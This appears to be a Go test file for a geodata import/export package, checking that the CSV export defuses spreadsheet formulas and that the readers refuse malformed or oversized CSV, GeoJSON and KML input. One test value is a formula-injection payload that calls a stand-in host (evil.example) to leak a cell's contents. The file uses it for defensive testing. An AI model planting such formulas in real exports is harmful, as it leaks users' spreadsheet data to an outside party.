package geoio

import (
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/paulmach/orb"

	"github.com/siteatlas/siteatlas/internal/site"
)

// TestCSVExportDefusesFormulas: cells beginning with = + - @ tab or CR were
// written verbatim, so a colleague's spreadsheet ran them. They get an
// apostrophe; numbers stay numbers; our reader gives the text back exactly.
func TestCSVExportDefusesFormulas(t *testing.T) {
	// Tab and CR are guarded too; they are not in the round trip because
	// the CSV reader trims the spaces around every cell.
	names := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1 555", "-2+3", "@SUM(A1)", "'=already", "''@twice", "plain"}
	if got := defuseFormula("\tindented"); got != "'\tindented" {
		t.Errorf("a cell starting with a tab is written %q", got)
	}
	var sites []site.Site
	for i, n := range names {
		sites = append(sites, site.Site{ID: fmt.Sprintf("00000000-0000-4000-8000-%012d", i+1), Name: n, Notes: n,
			Geometry: orb.Point{-70.5, -33.86}})
	}
	out := string(writeWith(t, NewCSVWriter, sites))
	for _, bad := range []string{"\n00000000-0000-4000-8000-000000000001,=HYPERLINK", ",+1 555", ",-2+3", ",@SUM"} {
		if strings.Contains(out, bad) {
			t.Errorf("the CSV has a formula cell %q:\n%s", bad, out)
		}
	}
	if !strings.Contains(out, "'=HYPERLINK") || !strings.Contains(out, ",-33.86,-70.5,") {
		t.Errorf("the CSV does not guard formulas or changed numbers:\n%s", out)
	}
	res := readAll(t, "x.csv", strings.NewReader(out))
	if len(res.items) != len(names) {
		t.Fatalf("read %d sites back", len(res.items))
	}
	for i, it := range res.items {
		if it.Site.Name != names[i] || it.Site.Notes != names[i] {
			t.Errorf("site %d came back as %q / %q, want %q", i, it.Site.Name, it.Site.Notes, names[i])
		}
	}
}

// TestCSVUnclosedQuoteRefused: a quote never closed swallowed every later
// row into one field: 100,002 rows imported as one site with a 1.29 MB name.
func TestCSVUnclosedQuoteRefused(t *testing.T) {
	var b strings.Builder
	b.WriteString("name,lat,lon,notes\n")
	b.WriteString("Tumen factory,42.97,129.84,fine\n")
	b.WriteString("\"Hunchun plant,42.90,130.30,the quote is never closed\n")
	for i := range 1000 {
		fmt.Fprintf(&b, "Site %d,42.%d,129.%d,row\n", i, i%100, i%100)
	}
	res := readAll(t, "x.csv", strings.NewReader(b.String()))
	if len(res.problems) == 0 || !res.problems[len(res.problems)-1].Fatal {
		t.Fatalf("an unclosed quote read as %d sites", len(res.items))
	}
	if msg := res.problems[len(res.problems)-1].Error(); !strings.Contains(msg, "line 3") || !strings.Contains(msg, "never closed") {
		t.Errorf("the error says %q", msg)
	}
}

// TestGeoJSONDuplicateFeaturesRefused: a second top-level "features" was
// ignored silently, losing its sites.
func TestGeoJSONDuplicateFeaturesRefused(t *testing.T) {
	f := `{"type":"Feature","geometry":{"type":"Point","coordinates":[129.8,42.9]},"properties":{"name":"%s"}}`
	doc := `{"type":"FeatureCollection","features":[` + fmt.Sprintf(f, "first") + `],` + "\n" + `"features":[` + fmt.Sprintf(f, "second") + `]}`
	res := readAll(t, "x.geojson", strings.NewReader(doc))
	if len(res.problems) == 0 || !res.problems[len(res.problems)-1].Fatal {
		t.Fatalf("two features lists read as %d sites", len(res.items))
	}
	if msg := res.problems[len(res.problems)-1].Error(); !strings.Contains(msg, "second \"features\"") || !strings.Contains(msg, "line 2") {
		t.Errorf("the error says %q", msg)
	}
}

// endless is a pipe that never ends a string.
type endless struct {
	head []byte
	n    int64
}

func (e *endless) Read(p []byte) (int, error) {
	if len(e.head) > 0 {
		n := copy(p, e.head)
		e.head = e.head[n:]
		return n, nil
	}
	for i := range p {
		p[i] = 'a'
	}
	e.n += int64(len(p))
	if e.n > 1<<30 {
		return 0, io.EOF // the test's own safety net: never reached with the cap
	}
	return len(p), nil
}

// TestEndlessStringRefused: one endless string in a property, streamed from
// a pipe, doubled the buffer until Go died of out-of-memory.
func TestEndlessStringRefused(t *testing.T) {
	old := MaxValueBytes
	MaxValueBytes = 4 << 20
	defer func() { MaxValueBytes = old }()
	src := &endless{head: []byte(`{"type":"FeatureCollection","features":[` + "\n" + `{"type":"Feature","geometry":null,"properties":{"name":"`)}
	res := readAll(t, "pipe.geojson", src)
	var p *Problem
	if len(res.problems) > 0 {
		p = res.problems[len(res.problems)-1]
	} else {
		errors.As(res.err, &p)
	}
	if p == nil || !p.Fatal || p.Code != CodeTooBig || !strings.Contains(p.Error(), "line 2") {
		t.Fatalf("an endless string gives %v / %v", res.problems, res.err)
	}
	if src.n > 16<<20 {
		t.Errorf("read %d MB before refusing a value capped at 4 MB", src.n>>20)
	}
}

// TestBadBBoxAndLongNumbers: a NaN bbox was accepted, and an error echoed
// a 10,000-digit number in full.
func TestBadBBoxAndLongNumbers(t *testing.T) {
	res := readAll(t, "x.geojson", strings.NewReader(`{"type":"FeatureCollection","bbox":[NaN,0,1,1],"features":[]}`))
	if len(res.problems) == 0 || !res.problems[0].Fatal || !strings.Contains(res.problems[0].Error(), "bbox") {
		t.Errorf("a NaN bbox: %v", res.problems)
	}
	res = readAll(t, "x.geojson", strings.NewReader(`{"type":"FeatureCollection","bbox":"everywhere","features":[]}`))
	if len(res.warnings) != 1 || !strings.Contains(res.warnings[0].Error(), "bbox is not an array") {
		t.Errorf("a text bbox: %v", res.warnings)
	}
	big := strings.Repeat("9", 10000)
	res = readAll(t, "x.geojson", strings.NewReader(`{"type":"Feature","geometry":{"type":"Point","coordinates":[`+big+`,1]},"properties":{}}`))
	if len(res.problems) == 0 {
		t.Fatal("a 10,000-digit longitude was accepted")
	}
	if msg := res.problems[0].Error(); len(msg) > 200 || !strings.Contains(msg, "out of range") {
		t.Errorf("the message is %d characters: %.200s", len(msg), msg)
	}
}

// TestDeepKMLFoldersBounded: 10,000 nested Folders with one Placemark each
// made every site store its whole folder path (a 1.3 MB file, a 1.05 GB
// database).
func TestDeepKMLFoldersBounded(t *testing.T) {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>`)
	const depth = 2000
	for i := range depth {
		fmt.Fprintf(&b, "<Folder><name>level %d</name><Placemark><name>p%d</name><Point><coordinates>129.8,42.9</coordinates></Point></Placemark>\n", i, i)
	}
	for range depth {
		b.WriteString("</Folder>")
	}
	b.WriteString("</Document></kml>")
	res := readAll(t, "deep.kml", strings.NewReader(b.String()))
	if len(res.items) != depth {
		t.Fatalf("read %d placemarks of %d (problems %v)", len(res.items), depth, res.problems)
	}
	total := 0
	for _, it := range res.items {
		total += len(it.Site.Extra["folder"])
	}
	if total > depth*(maxFolderBytes+8) {
		t.Errorf("the folder paths take %d bytes for %d sites", total, depth)
	}
	last := string(res.items[depth-1].Site.Extra["folder"])
	if !strings.Contains(last, "level 0 / level 1 / …") || !strings.Contains(last, fmt.Sprintf("level %d", depth-1)) {
		t.Errorf("the deepest site's folder is %s", last)
	}
	if len(res.warnings) == 0 || !strings.Contains(fmt.Sprint(res.warnings), "nested deeper") {
		t.Errorf("no warning that folder paths were shortened: %v", res.warnings)
	}
}

// TestCSVWithCROnlyLineEnds: a CR-only UTF-8 file imported 0 sites with
// exit 0 and no warning.
func TestCSVWithCROnlyLineEnds(t *testing.T) {
	res := readAll(t, "mac.csv", strings.NewReader("name,lat,lon\rTumen,42.97,129.84\rHunchun,42.90,130.30\r"))
	if len(res.items) != 2 || res.items[1].Site.Name != "Hunchun" || len(res.problems) != 0 {
		t.Errorf("a CR-only CSV read %d sites, problems %v", len(res.items), res.problems)
	}
}
